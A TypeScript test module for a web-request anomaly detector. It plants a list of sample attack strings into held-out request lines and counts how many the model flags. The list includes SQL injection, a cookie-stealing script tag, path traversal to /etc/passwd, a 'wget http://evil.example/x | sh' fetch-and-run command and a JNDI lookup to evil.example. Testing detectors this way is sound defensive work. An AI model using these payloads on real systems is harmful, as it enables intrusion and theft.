/**
 * The other half of the promotion gate. A threshold that lies above a tenth of all requests flags nobody, and finds nothing: so attacks are planted in
 * held-out lines, and a model that does not see them is of no use.
 *
 * @module
 */
import type { RequestReader } from "../model/reader.ts";
import { normalizeParts } from "../normalize/request.ts";

/** One of each kind. They are not learned from: the threshold is what normal requests cost. */
const ATTACKS = [
  "1' or '1'='1' -- ",
  "7 union select name, secret from accounts",
  '"><script>steal(document.cookie)</script>',
  "<svg onload=run()>",
  "../../../../etc/passwd",
  "; wget http://evil.example/x | sh",
  "$(id)",
  "{{constructor.constructor('return 1')()}}",
  "${jndi:ldap://evil.example/a}",
  "php://filter/convert.base64-encode/resource=index",
];

const PREFIX = "GET /?v=";
const NORMALIZED = ATTACKS.map((text) => normalizeParts({ method: "GET", target: `/?v=${encodeURIComponent(text)}` }).slice(PREFIX.length));

/** Lines that get an attack. */
const LINES = 100;

/** How many planted attacks a model calls odd. */
export interface Planted {
  readonly attacks: number;
  readonly found: number;
}

/** Plants attacks in lines, as a parameter's value where there is one, else as the end of the path. */
export function findPlanted(lines: readonly string[], { read }: Pick<RequestReader, "read">): Planted {
  const step = Math.max(1, Math.floor(lines.length / LINES));
  let attacks = 0;
  let found = 0;
  for (let at = 0; at < lines.length && attacks < LINES; at += step) {
    if (read(planted(lines[at]!, NORMALIZED[attacks % NORMALIZED.length]!)).isOdd) found++;
    attacks++;
  }
  return { attacks, found };
}

function planted(line: string, attack: string): string {
  const value = /=[^&=]*$/.exec(line);
  if (value !== null) return `${line.slice(0, value.index)}=${attack}`;
  return line.includes("?") ? `${line}=${attack}` : `${line.replace(/[^/]*$/, "")}${attack}`;
}
